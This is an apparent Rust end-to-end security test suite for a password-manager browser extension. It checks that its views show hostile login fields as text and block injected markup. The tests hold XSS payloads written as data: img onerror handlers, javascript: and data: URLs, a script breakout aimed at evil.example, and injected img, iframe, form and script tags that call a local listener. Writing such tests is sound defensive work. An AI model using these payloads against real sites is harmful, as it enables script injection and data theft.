//! What hostile texts and injected markup can do in our own views: nothing (threats, group A).
// A member that a JSON value does not have reads as null.
#![allow(clippy::indexing_slicing)]

use std::sync::{Arc, Mutex, PoisonError};

use anyhow::Result;
use nearkey_e2e::World;
use nearkey_e2e::view::Kind;
use nearkey_servers::Credential;
use serde_json::json;
use tokio::io::{AsyncBufReadExt, BufReader};
use tokio::net::TcpListener;

/// T-11: names, users and sites of logins are text, whatever is in them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t11_a_hostile_login_is_shown_as_text() -> Result<()> {
    let world = World::linked().await?;
    let markup = "<img src=x onerror=\"window.pwned=1\"><b>bold</b>";
    let hostile = [
        (markup, "javascript:window.pwned=1", "javascript:window.pwned=1"),
        ("\u{202e}gnirts\u{2066}", "a\u{0}b", "https://evil.example/\"><script>window.pwned=1</script>"),
        ("", "", "data:text/html,<script>window.pwned=1</script>"),
    ];
    for (number, (name, user, website)) in hostile.into_iter().enumerate() {
        world.phone.put_credential(Credential {
            uid: Some(format!("00000000-0000-4000-9000-{number:012}")),
            name: name.into(),
            user: user.into(),
            website: website.into(),
            password: "x".into(),
            ..Credential::default()
        });
    }
    let long = "W".repeat(60_000);
    world.phone.put_credential(Credential { name: long.clone(), user: long, ..Credential::default() });

    let popup = world.keep_all().await?;
    popup.on.type_into("[type=search]", "bold").await?;
    popup.wait("the hostile login", |screen| screen["others"][0]["name"] == markup).await?;
    let look = "const rows = document.querySelector('[role=row]');
        const [row] = document.querySelectorAll('[role=row]');
        return {
            pwned: window.pwned ?? null,
            made: document.querySelectorAll('main img, main b, main script, main a, nk-items img, nk-items script').length,
            text: rows.textContent.includes('<img src=x'),
            wide: document.documentElement.scrollWidth > window.innerWidth,
            isolated: row.querySelectorAll('bdi').length > 0,
        };";
    let seen = popup.on.run(look, Vec::new()).await?;
    assert_eq!(seen, json!({ "pwned": null, "made": 0, "text": true, "wide": false, "isolated": true }));

    popup.on.type_into("[type=search]", "WWWW").await?;
    popup
        .wait("the long login", |screen| screen["search"] == "WWWW" && screen["others"][0].is_object())
        .await?;
    let seen = popup.on.run(look, Vec::new()).await?;
    assert_eq!(
        (&seen["wide"], &seen["pwned"]),
        (&json!(false), &json!(null)),
        "a long name stays in its row"
    );
    Ok(())
}

/// T-14: markup that got in somehow loads nothing, sends nothing and runs nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn t14_injected_markup_reaches_nobody() -> Result<()> {
    let world = World::linked().await?;
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let address = listener.local_addr()?;
    let heard = Arc::new(Mutex::new(Vec::new()));
    let told = Arc::clone(&heard);
    tokio::spawn(async move {
        // A connection alone is a guess of the browser's; what counts is a request.
        while let Ok((stream, _)) = listener.accept().await {
            let told = Arc::clone(&told);
            tokio::spawn(async move {
                let mut line = String::new();
                let _ = BufReader::new(stream).read_line(&mut line).await;
                if !line.is_empty() {
                    told.lock().unwrap_or_else(PoisonError::into_inner).push(line);
                }
            });
        }
    });
    let inject = "const [to] = given[0];
        const host = document.createElement('div');
        host.innerHTML = `<img src='http://${to}/i.png'><link rel='stylesheet' href='http://${to}/s.css'>
            <iframe src='http://${to}/f.html'></iframe><form action='http://${to}/go' method='post'><input name='p' value='x'></form>
            <video src='http://${to}/v.mp4'></video><style>@import url('http://${to}/t.css');</style>
            <img src='data:,' onerror='window.pwned = 1'>`;
        document.body.append(host);
        const script = document.createElement('script');
        script.src = `http://${to}/x.js`;
        document.body.append(script);
        const inline = document.createElement('script');
        inline.textContent = 'window.pwned = 1';
        document.body.append(inline);
        // Firefox says by an exception that the policy forbids it.
        try { host.querySelector('form').submit(); } catch { /* forbidden */ }
        await new Promise((done) => setTimeout(done, 1500));
        return { pwned: window.pwned ?? null, here: location.pathname };";
    for kind in [Kind::Popup, Kind::Link, Kind::Options] {
        let view = world.browser.open_view(kind).await?;
        let page = view.on.run("return location.pathname", Vec::new()).await?;
        let seen = view.on.run(inject, vec![json!([address.to_string()])]).await?;
        assert_eq!(seen, json!({ "pwned": null, "here": page }), "{kind:?}");
        view.on.close().await?;
    }
    let heard = heard.lock().unwrap_or_else(PoisonError::into_inner);
    assert!(heard.is_empty(), "{heard:?}");
    Ok(())
}
